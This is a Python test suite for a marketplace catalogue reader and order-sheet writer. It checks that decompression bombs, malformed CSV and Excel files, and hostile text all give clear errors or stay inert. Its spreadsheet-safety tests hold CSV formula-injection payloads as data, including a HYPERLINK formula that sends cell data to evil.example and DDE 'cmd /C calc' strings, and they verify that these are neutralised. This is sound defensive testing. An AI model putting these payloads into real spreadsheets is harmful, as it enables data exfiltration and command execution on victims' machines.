"""Hostile input: the corpus in tests/hostile/files (made by tests/hostile/make_corpus.py) plus a
50 MB CSV and a decompression-bomb XLSX made here. Every file gives a clear error naming it, or
rows and rejects naming sheet, row, column and value; memory stays bounded; nothing crashes; a
hostile group never stops the others' sync. And spreadsheet safety: the rejects reports and order
sheets written back to people never hold a live formula, whatever the data."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import SAMPLES

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = Path(__file__).resolve().parent / "hostile"
FILES = HOSTILE / "files"
sys.path.insert(0, str(HOSTILE))
import make_corpus  # noqa: E402

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
MEMORY_CAP = 4 * 1024**3  # address space of the reading process: a regression fails, it does not swap

# file → ("error", text the error must hold) | ("rows", rows in, listings, [(row, column, value starts, reason has)])
EXPECT: dict[str, tuple] = {
    "empty.csv": ("error", "The file is empty"),
    "blank_lines.csv": ("error", "The file is empty"),
    "header_only.csv": ("rows", 0, 0, []),
    "only_delimiters.csv": ("error", "No header row found"),
    "binary_junk.xlsx": ("error", "neither a CSV nor an Excel workbook"),
    "binary_junk.csv": ("error", "neither a CSV nor an Excel workbook"),
    "web_page.xls": ("error", "web page (HTML/XML), not a spreadsheet"),
    "spreadsheetml_2003.xls": ("error", "web page (HTML/XML), not a spreadsheet"),
    "password_protected.xlsx": ("error", "password-protected"),
    "truncated.xlsx": ("error", "damaged or incomplete"),
    "zip_not_workbook.xlsx": ("error", "damaged or incomplete"),
    "utf16_bom.csv": ("rows", 3, 3, []),
    "utf16_no_bom.csv": ("rows", 3, 3, []),
    "shift_jis.csv": ("rows", 1, 0, [(2, "Nama Produk", "", "could not be read")]),
    "cp1252_late_byte.csv": ("rows", 4, 4, []),
    "nul_bytes.csv": ("error", "a NUL byte on line 2"),
    "unbalanced_quote.csv": ("error", 'A quote (") in row 3 is never closed'),
    "long_cells.csv": ("rows", 2, 1, [(2, "Nama Produk", "Keripik YYYY", "at most 70"),
                                      (2, "Deskripsi", "ZZZZ", "at most 2000")]),
    "formula_text.csv": ("rows", 3, 2, [(3, "Harga", "=1+1", "not a number")]),
    "header_in_french.csv": ("error", "No header row found"),
    "header_in_japanese.csv": ("error", "No header row found"),
    "header_below_row_30.csv": ("error", "No header row found"),
    "columns_shuffled.csv": ("rows", 3, 3, []),
    "columns_in_order.csv": ("rows", 3, 3, []),
    "absurd_numbers.csv": ("rows", 4, 0, [(2, "Harga", "1e308", "not a number"), (2, "Stok", "9999", "at most 999,999"),
                                          (3, "Harga", "NaN", "not a number"), (4, "Harga", "Rp 9999", "between 100"),
                                          (5, "Harga", "١٥٠٠٠", "not a number")]),
    "control_characters.csv": ("rows", 3, 2, [(4, "Nama Produk", "", "name is empty")]),
    "mac_cr_lines.csv": ("rows", 3, 3, []),
    "thousand_columns.csv": ("rows", 3, 3, []),
    "ragged_wide_row.csv": ("rows", 3, 3, []),
    "duplicate_headers.csv": ("rows", 3, 3, []),
    "excel_error_values.csv": ("rows", 1, 0, [(2, "Nama Produk", "#N/A", "Excel error"),
                                              (2, "Harga", "#DIV/0!", "not a number")]),
    "hostile_photo_urls.csv": ("rows", 4, 1, [(2, "Foto 1", "javascript:", "https://"), (3, "Foto 1", "https://", "https://"),
                                              (5, "Foto 1", "file:///", "https://")]),
    "wrong_sep_hint.csv": ("rows", 3, 3, []),
    "formulas.xlsx": ("rows", 3, 1, [(3, "Harga", "", "Price is empty"), (4, "Nama Produk", "", "name is empty")]),
    "merged_cells.xlsx": ("rows", 3, 3, []),
    "hidden_product_sheet.xlsx": ("error", "The product sheet 'Produk' is hidden"),
    "dates_and_serials.xlsx": ("rows", 3, 1, [(3, "Harga", "2026-01-15", "not a number"),
                                              (4, "Stok", "12:30:00", "not a number")]),
    "far_away_cell.xlsx": ("error", "as far as cell XFD1048576"),
    # Positions implied, not written (no r=): counted as the reader counts them (issue 15, item 1).
    "far_cells_without_r.xlsx": ("error", "as far as cell GR1048576"),
    "rows_without_r.xlsx": ("error", "as far as cell CV1048005"),
    "huge_dimension.xlsx": ("rows", 3, 3, []),  # the declared extent is not what a reader allocates
    "shared_strings_bomb.xlsx": ("error", "The workbook is damaged"),
    "many_sheets.xlsx": ("rows", 2, 2, []),
    "hostile_sheet_names.xlsx": ("rows", 3, 1, [(3, "Harga", "nego", "not a number")]),
    "longest_cells.xlsx": ("rows", 1, 0, [(2, "Nama Produk", "Keripik XXXX", "at most 70")]),
    "decompression_bomb.xlsx": ("error", "unpacks to more than"),
    "forged_size_bomb.xlsx": ("error", "The workbook is damaged"),
    "fifty_megabytes.csv": ("rows", None, None, []),
}

# Reads each file in a fresh process under an address-space cap, one JSON line per file (so a
# crash names the file it happened on), the rejects report written and reloaded as Excel would.
RUNNER = r"""
import json, resource, sys
from pathlib import Path
cap = int(sys.argv[1])
resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
from connectors.catalogue import CatalogueError
from flows.engine.intake import GroupIntake, intake_catalogue, load_categories, write_report
from schemas.config import GroupConfig
categories = load_categories(None)
out_dir = Path(sys.argv[2])
for name in sys.argv[3:]:
    path = Path(name)
    print(json.dumps({"start": path.name}), flush=True)
    line = {"file": path.name}
    try:
        raw, result = intake_catalogue(path, "hostile", categories)
        line.update(rows_in=result.rows_in, listings=len(result.listings), rejected=result.rejected_rows,
                    names=[str(n) for n in result.listings["name"]][:10],
                    problems=[dict(sheet=str(r.sheet), row=int(r.row), column=str(r.column), value=str(r.value)[:200],
                                   reason=str(r.reason_en), file=str(r.file)) for r in result.rejects.itertuples()])
        group = GroupConfig(id="hostile", name="Hostile", shop_id=1, catalogue=str(path))
        intake = write_report(out_dir / path.stem, GroupIntake(group=group, result=result, raw=raw))
        line["report"] = str(intake.report_xlsx)
    except CatalogueError as err:
        line["error"] = str(err)
    except BaseException as err:
        line["crash"] = f"{type(err).__name__}: {err}"[:500]
    line["rss_mb"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    print(json.dumps(line, ensure_ascii=False), flush=True)
"""


@pytest.fixture(scope="module")
def results(tmp_path_factory) -> dict[str, dict]:
    """Every corpus file read once, in a fresh capped process; the big CSV last (peak RSS is a high-water mark)."""
    tmp = tmp_path_factory.mktemp("hostile")
    bomb = make_corpus.bomb_xlsx(tmp / "decompression_bomb.xlsx", unpacked_mb=250)
    forged = make_corpus.forged_size_xlsx(tmp / "forged_size_bomb.xlsx", unpacked_mb=250)
    big = make_corpus.big_csv(tmp / "fifty_megabytes.csv", megabytes=50)
    files = sorted(FILES.iterdir()) + [bomb, forged, big]
    proc = subprocess.run([sys.executable, "-c", RUNNER, str(MEMORY_CAP), str(tmp / "out"), *map(str, files)],
                          cwd=ROOT, capture_output=True, text=True, timeout=300,
                          env=dict(os.environ, PYTHONPATH=str(ROOT)))
    lines = [json.loads(x) for x in proc.stdout.splitlines() if x.startswith("{")]
    done = {x["file"]: x for x in lines if "file" in x}
    started = [x["start"] for x in lines if "start" in x]
    assert proc.returncode == 0 and len(done) == len(files), (
        f"the reader died on {started[-1] if started else '?'} (exit {proc.returncode}): {proc.stderr[-2000:]}")
    return done


def test_the_corpus_has_at_least_thirty_hostile_files_and_is_reproducible(tmp_path):
    assert len(list(FILES.iterdir())) >= 30 and set(EXPECT) == {p.name for p in FILES.iterdir()} | {
        "decompression_bomb.xlsx", "forged_size_bomb.xlsx", "fifty_megabytes.csv"}
    for name, write in make_corpus.CASES.items():  # the committed files are what the generator makes
        write(tmp_path)
        assert (tmp_path / name).read_bytes() == (FILES / name).read_bytes(), name


@pytest.mark.parametrize("name", sorted(EXPECT))
def test_each_hostile_file_gives_a_clear_error_or_named_rejects(results, name):
    got = results[name]
    assert "crash" not in got, got["crash"]
    kind, *want = EXPECT[name]
    if kind == "error":
        assert "error" in got, f"expected an error, got {got.get('rows_in')} rows"
        assert got["error"].startswith(f"{name}: ") and want[0] in got["error"], got["error"]
        assert " (" in got["error"]  # the Indonesian text beside the English
        return
    assert "error" not in got, got["error"]
    rows_in, listings, lines = want
    if rows_in is not None:
        assert (got["rows_in"], got["listings"]) == (rows_in, listings), got["problems"][:5]
    assert got["rows_in"] == got["listings"] + got["rejected"]  # nothing dropped silently
    for p in got["problems"]:  # every problem names the file, sheet, row and column
        assert p["file"] == name and p["sheet"] and p["row"] >= 1 and p["column"], p
    for row, column, value, reason in lines:
        assert any(p["row"] == row and p["column"] == column and p["value"].startswith(value) and reason in p["reason"]
                   for p in got["problems"]), (row, column, value, reason, got["problems"])
    # The rejects report opens as a workbook and no cell holds more than Excel allows.
    wb = openpyxl.load_workbook(got["report"], read_only=True)
    longest = max((len(str(c)) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row
                   if c is not None), default=0)
    wb.close()
    assert longest <= 32_767


def test_memory_stays_bounded(results):
    small = max(r["rss_mb"] for name, r in results.items() if name != "fifty_megabytes.csv")
    assert small < 800, f"peak {small} MB before the 50 MB CSV (the bomb and the far-away cell must be refused unread)"
    big = results["fifty_megabytes.csv"]
    assert big["rows_in"] > 390_000 and big["rss_mb"] < 2_000, big["rss_mb"]


def test_a_bomb_under_the_size_cap_is_refused_by_its_compression_ratio(tmp_path):
    from connectors.catalogue import CatalogueError
    from flows.engine.intake import intake_catalogue, load_categories

    bomb = make_corpus.bomb_xlsx(tmp_path / "kecil.xlsx", unpacked_mb=60)  # under 200 MB, but 640×
    with pytest.raises(CatalogueError) as refused:
        intake_catalogue(bomb, "g", load_categories(None))
    message = str(refused.value)
    assert message.startswith("kecil.xlsx: The workbook grows from 0.1 MB to 60 MB when unpacked"), message
    assert "mengembang dari 0,1 MB menjadi 60 MB" in message


def test_what_hostile_text_becomes(results):
    # Names reach the marketplace as people see them: no control or bidi-override characters.
    assert results["control_characters.csv"]["names"] == ["Keripik [31m Merah", "odalaB kipireK"]
    # A shuffled sheet means the same as the ordered one; a wrong "sep=" line is not believed.
    assert results["columns_shuffled.csv"]["names"] == results["columns_in_order.csv"]["names"]
    assert results["wrong_sep_hint.csv"]["names"] == results["columns_in_order.csv"]["names"]
    assert results["utf16_no_bom.csv"]["names"] == results["columns_in_order.csv"]["names"]
    assert "Kue Lapis Legit Spesial" in results["cp1252_late_byte.csv"]["names"]


def test_a_hostile_group_never_stops_the_others(tmp_path, monkeypatch):
    """One sync: a good group, and groups whose files are a bomb, junk, a far-away cell and an
    unclosed quote (one of them in the good group's shop). The good group is listed; each other
    group's error names its file; the run then fails, for an operator to see."""
    from connectors.sandbox import running_sandbox
    from tests.test_chaos import load_chaos

    work = tmp_path / "w"
    (work / "catalogues").mkdir(parents=True)
    shutil.copy(SAMPLES / "catalogues" / "banyuwangi" / "batik-gajah-oling.csv", work / "catalogues" / "good.csv")
    make_corpus.bomb_xlsx(work / "catalogues" / "bomb.xlsx", unpacked_mb=300)
    for name in ("binary_junk.xlsx", "far_away_cell.xlsx", "unbalanced_quote.csv"):
        shutil.copy(FILES / name, work / "catalogues" / name)
    groups = [("good-group", 479574, "good.csv"), ("bomb-group", 479574, "bomb.xlsx"),
              ("junk-group", 479573, "binary_junk.xlsx"), ("far-group", 479575, "far_away_cell.xlsx"),
              ("quote-group", 479575, "unbalanced_quote.csv")]
    with running_sandbox(tmp_path / "sandbox", rate_limit=None) as market:
        lines = ["[marketplace]", f'api_url = "{market.url}"', f'auth_url = "{market.url}"', f"fs_id = {market.fs_id}",
                 f'client_id = "{market.client_id}"', "rate_limit_per_second = 1000", "[output]", 'dir = "out"']
        for gid, shop, file in groups:
            lines += ["[[groups]]", f'id = "{gid}"', f'name = "{gid}"', f"shop_id = {shop}",
                      f'catalogue = "catalogues/{file}"']
        (work / "lapak.toml").write_text("\n".join(lines) + "\n", encoding="utf-8")
        monkeypatch.setenv("LAPAK_CLIENT_SECRET", market.client_secret)
        with pytest.raises(Exception) as failed:
            load_chaos().run_op("sync", work / "lapak.toml")
        listed = [p for shop in market.shops for p in market.admin.products(shop)]
    assert len(listed) == 13 and all(p["sku"].startswith("GOOD-GROUP-") for p in listed)
    message = str(failed.value)  # one line for the one cause, naming the groups; each file in the details
    assert message.startswith("Catalogue unreadable: bomb-group, junk-group, far-group +1 more (bomb.xlsx: "), message
    details = {d["subject"]: d["detail"] for d in failed.value.summary["problem_details"]}
    for gid, _, file in groups[1:]:
        assert details[gid].startswith(f"{file}: "), details


# ---- spreadsheet safety ---------------------------------------------------------------------------

HOSTILE_TEXT = ['=HYPERLINK("https://evil.example/?d="&A1,"Klik")', "+62 812 3456 7890", "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3", "\tTab di depan", "\rCR di depan", "baris satu\nbaris dua"]


def _assert_inert_xlsx(path: Path) -> set[str]:
    """No formula cell anywhere; every text that would start a formula is a quote-prefixed string cell
    (it shows as written and stays text when edited). Returns all text."""
    wb = openpyxl.load_workbook(path)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{path.name} {ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert c.data_type == "s", f"{ws.title}!{c.coordinate}: {c.value!r}"
                    if c.value.startswith(FORMULA_START):
                        assert c.quotePrefix, f"{ws.title}!{c.coordinate} has no quote prefix: {c.value!r}"
                    seen.add(c.value)
    return seen


def _assert_inert_csv(path: Path) -> set[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        cells = {c for row in csv.reader(f) for c in row}
    assert not [c for c in cells if c.startswith(FORMULA_START)], path.name
    return cells


def test_rejects_reports_hold_hostile_text_inert(results):
    report = Path(results["formula_text.csv"]["report"])
    in_xlsx, in_csv = _assert_inert_xlsx(report), _assert_inert_csv(report.with_suffix(".csv"))
    # The group still sees exactly what it wrote, in its own sheet and among the problems (the CSV,
    # having no cell styles, quotes it).
    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
    assert {"=1+1", "+62 812 3456 7890", hyperlink} <= in_xlsx
    assert "'=1+1" in in_csv  # the CSV lists the problem values only


def test_order_sheets_hold_hostile_buyers_inert(tmp_path, monkeypatch):
    """Buyers and addresses are typed by strangers: the order sheets keep them as text."""
    from connectors.sandbox import running_sandbox
    from flows.engine.order_sheets import write_order_sheets
    from flows.engine.orders import pull_orders_for_shop
    from flows.engine.runtime import Runtime
    from schemas.listing import KnownListing

    with running_sandbox(tmp_path / "sandbox", rate_limit=None) as market:
        (tmp_path / "lapak.toml").write_text("\n".join([
            "[marketplace]", f'api_url = "{market.url}"', f'auth_url = "{market.url}"', f"fs_id = {market.fs_id}",
            f'client_id = "{market.client_id}"', "rate_limit_per_second = 1000", "[output]", 'dir = "out"',
            "[[groups]]", 'id = "g"', 'name = "G"', "shop_id = 479573", 'catalogue = "g.csv"']) + "\n",
            encoding="utf-8")
        monkeypatch.setenv("LAPAK_CLIENT_SECRET", market.client_secret)
        rt = Runtime.open(str(tmp_path / "lapak.toml"))
        try:
            rt.store.upsert_groups(rt.config.groups)
            created = rt.channel.client.create_products(479573, [{
                "name": "=1+2 Keripik", "sku": "G-1", "category_id": 101, "price": 15_000, "stock": 50, "weight": 250,
                "pictures": [{"file_path": "https://img.example/1.jpg"}]}])
            assert created.ok
            rt.store.save_listings([KnownListing(
                shop_id=479573, sku="G-1", group_id="g", product_id=created.product_ids()["G-1"], name="=1+2 Keripik",
                category_id=101, price=15_000, stock=50, recorded_stock=50, min_order=1, weight_g=250.0,
                condition="NEW", description="", pictures=())])
            for i, text in enumerate(HOSTILE_TEXT):
                market.admin.place_order(479573, [{"sku": "G-1", "quantity": 1}],
                                         buyer={"id": i, "name": text, "phone": "+62 811 000", "email": "a@b.example"},
                                         recipient={"name": text, "phone": text, "address": {
                                             "address_full": text, "district": "@x", "city": "=cmd|'/C calc'!A0",
                                             "province": "-", "postal_code": "+1"}})
            pull_orders_for_shop(rt, 479573, correct=False)
            paths = write_order_sheets(rt)
        finally:
            rt.close()
    xlsx = [p for p in paths if p.suffix == ".xlsx"]
    assert xlsx and all(p.parent.name == "g" for p in paths)
    in_xlsx = set().union(*(_assert_inert_xlsx(p) for p in paths if p.suffix == ".xlsx"))
    in_csv = set().union(*(_assert_inert_csv(p) for p in paths if p.suffix == ".csv"))
    shown = {"+62 812 3456 7890", "=1+2 Keripik", "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert shown <= in_xlsx and {"'" + v for v in shown} <= in_csv
    # Numbers stay numbers (sums work); a line break inside a cell stays inside it.
    from connectors.sheets import SHEET_NAME

    ws = openpyxl.load_workbook(xlsx[0])[SHEET_NAME]
    header = [c.value for c in ws[1]]
    qty = header.index("Jumlah / Qty") + 1
    assert all(isinstance(ws.cell(row=r, column=qty).value, int) for r in range(2, ws.max_row + 1))
    assert ws.max_row == 1 + len(HOSTILE_TEXT)
